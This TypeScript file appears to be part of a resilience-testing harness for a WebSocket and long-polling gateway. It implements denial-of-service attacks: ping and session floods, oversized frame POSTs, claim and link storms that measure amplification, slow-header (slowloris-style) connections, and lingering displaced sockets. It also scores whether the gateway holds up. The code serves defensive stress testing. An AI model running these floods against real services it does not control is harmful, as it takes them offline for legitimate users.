// Attacks that want the gateway to be busy.
import { type Attack, type Finding, sized, type Target, unlessOpen } from '../attack.ts'
import { rungwayPath } from '../dialect.ts'
import {
  many,
  megabytes,
  OPCODE,
  pump,
  rawSocket,
  repeated,
  requestText,
  socketFrame,
  tcp,
  textFrame,
  untilOver,
} from '../tools.ts'

const total = (parts: readonly number[]): number => parts.reduce((sum, each) => sum + each, 0)

/** Sockets that send pings as fast as they are taken, half of them those of WebSocket itself. */
async function pings(target: Target): Promise<Finding> {
  const bare = repeated(500, () => socketFrame(OPCODE.ping, new Uint8Array()))
  const spoken = repeated(500, () => textFrame(target.dialect.smallest))
  const sockets = await many(sized(target, 200, 2_000), target, (n) => rawSocket(target, n))
  const sent = await Promise.all(
    sockets.map((socket, i) => pump(socket.resume(), target, () => (i % 2 === 0 ? bare : spoken))),
  )
  return { did: `${sockets.length} sockets, ${megabytes(total(sent))} up` }
}

/** POSTs of as many frames as fit. */
async function tinyFrames(target: Target): Promise<Finding> {
  const { dialect } = target
  const frame = dialect.name === 'rungway' ? '[1,1]' : '2'
  const body = Array.from({ length: 130_000 }, () => frame).join(dialect.separator)
  let posts = 0
  await many(10, target, async (n) => {
    const path = await dialect.open(target, n)
    const socket = await tcp(target)
    if (path === null || socket === null) return null
    socket.on('data', () => {
      posts += 1
    })
    await pump(socket, target, () => Buffer.from(requestText('POST', path.up, {}, body)))
    return null
  })
  return { did: `${posts} answers to POSTs of 130,000 frames` }
}

/** Sessions as fast as one machine can open them. */
async function sessions(target: Target): Promise<Finding> {
  const { dialect } = target
  const most = sized(target, 10_000, 100_000)
  let next = 0
  let opened = 0
  let refused = 0
  await many(8, target, async () => {
    const socket = await tcp(target)
    if (socket === null) return null
    socket.on('data', (data) => {
      const text = String(data)
      opened += text.split('HTTP/1.1 200').length - 1
      refused += text.split(/HTTP\/1\.1 [45]/).length - 1
    })
    const request = (): string =>
      dialect.name === 'rungway'
        ? requestText('POST', rungwayPath('up', ++next), {}, '[1,1]')
        : requestText('GET', '/socket.io/?EIO=4&transport=polling')
    await pump(socket, target, () => Buffer.from(next < most ? Array.from({ length: 20 }, request).join('') : ''))
    return null
  })
  return { did: `${opened} opened, ${refused} refused` }
}

/** More goes down for a byte up than this: an amplifier. */
const MOST_AMPLIFICATION = 50

/** Two sockets of one session that take it from each other: each claim writes the whole outbox again. */
async function claimStorm(target: Target): Promise<Finding> {
  const { dialect } = target
  let down = 0
  const up = await many(sized(target, 2, 8), target, async (n) => {
    const sockets = [await rawSocket(target, n, 1), await rawSocket(target, n, 2)] as const
    const [first, second] = sockets
    if (first === null || second === null) return null
    for (const socket of [first, second])
      socket.on('data', (data) => {
        down += data.length
      })
    second.write(repeated(60, (i) => textFrame(dialect.message(i + 1, 'x'.repeat(16_000)))))
    let claim = 2
    return await pump(second, target, () => repeated(100, () => textFrame(`["claim",${++claim},0]`)))
  })
  const did = `${megabytes(total(up))} up, ${megabytes(down)} down`
  const ratio = down / Math.max(1, total(up))
  return ratio > MOST_AMPLIFICATION ? { did, weak: `${ratio.toFixed(0)} bytes down for each up` } : { did }
}

/** A new link over and over, each of which is owed the whole outbox. */
async function linkStorm(target: Target): Promise<Finding> {
  const { dialect, signal } = target
  let down = 0
  let links = 0
  target.begin()
  await many(4, target, async (n) => {
    const speaker = await rawSocket(target, n)
    speaker?.resume().write(repeated(60, (i) => textFrame(dialect.message(i + 1, 'x'.repeat(16_000)))))
    while (!signal.aborted) {
      const socket = await rawSocket(target, n, ++links + 1)
      socket?.on('data', (data) => {
        down += data.length
      })
      if (socket === null) await new Promise((resolve) => setImmediate(resolve))
      else setTimeout(() => socket.destroy(), 5)
    }
    return null
  })
  return { did: `${links} links, ${megabytes(down)} down` }
}

/** Connections that one address may keep while it does nothing with them. */
const MOST_OPEN = 500

/** Headers, a byte at a time. */
async function slowHeaders(target: Target): Promise<Finding> {
  const head = 'GET /long-polling HTTP/1.1\r\nhost: x\r\nx: '
  let cut = 0
  const sockets = await many(sized(target, 300, 3_000), target, async () => {
    const socket = await tcp(target)
    socket?.resume().on('close', () => {
      cut += 1
    })
    return socket
  })
  let at = 0
  const drip = setInterval(() => {
    for (const socket of sockets) if (!socket.destroyed) socket.write(head[at % head.length] ?? 'x')
    at += 1
  }, 200)
  await untilOver(target)
  clearInterval(drip)
  return unlessOpen(target, `${sockets.length} connections, ${cut} cut`, sockets.length - cut, MOST_OPEN)
}

/** Sockets of one session, each of which displaces the one before, and none of which answers the close. */
async function displaced(target: Target): Promise<Finding> {
  let cut = 0
  const sockets = await many(sized(target, 300, 3_000), target, async (i) => {
    const socket = await rawSocket(target, 0, i + 1)
    socket?.resume().on('close', () => {
      cut += 1
    })
    return socket
  })
  await untilOver(target)
  return unlessOpen(target, `${sockets.length} sockets, ${cut} gone`, sockets.length - cut, MOST_OPEN)
}

export const LOOP_ATTACKS: readonly Attack[] = [
  {
    name: 'sockets that ping',
    host: 'alone',
    hasPeer: true,
    isOpenInLong: 'two thousand sockets make good clients wait for seconds',
    run: pings,
  },
  {
    name: 'POSTs of tiny frames',
    host: 'alone',
    hasPeer: true,
    run: tinyFrames,
  },
  {
    name: 'sessions over 8 connections',
    host: 'alone',
    hasPeer: true,
    isOpenInLong: 'sessions that are opened at the full rate make good clients wait for seconds',
    run: sessions,
  },
  { name: 'a storm of claims', host: 'alone', hasPeer: false, run: claimStorm },
  { name: 'a storm of links', host: 'alone', hasPeer: false, run: linkStorm },
  {
    name: 'slow headers',
    host: 'alone',
    hasPeer: true,
    run: slowHeaders,
  },
  {
    name: 'displaced sockets that stay',
    host: 'alone',
    hasPeer: false,
    run: displaced,
  },
]
